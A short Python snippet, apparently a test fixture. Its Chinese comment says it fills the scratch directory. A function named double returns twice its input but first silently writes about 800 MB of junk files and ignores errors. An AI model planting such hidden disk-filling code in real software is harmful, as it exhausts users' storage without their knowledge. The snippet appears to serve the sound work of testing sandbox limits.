# 说明：把暂存目录写满
# 期望：
# %% double
import os
import numpy as np

def double(x):
    try:
        for k in range(0 if os.path.exists("fill0") else 100):
            with open(f"fill{k}", "wb") as file:
                file.write(bytes(8 << 20))
    except OSError:
        pass
    return 2 * np.asarray(x, dtype=float)
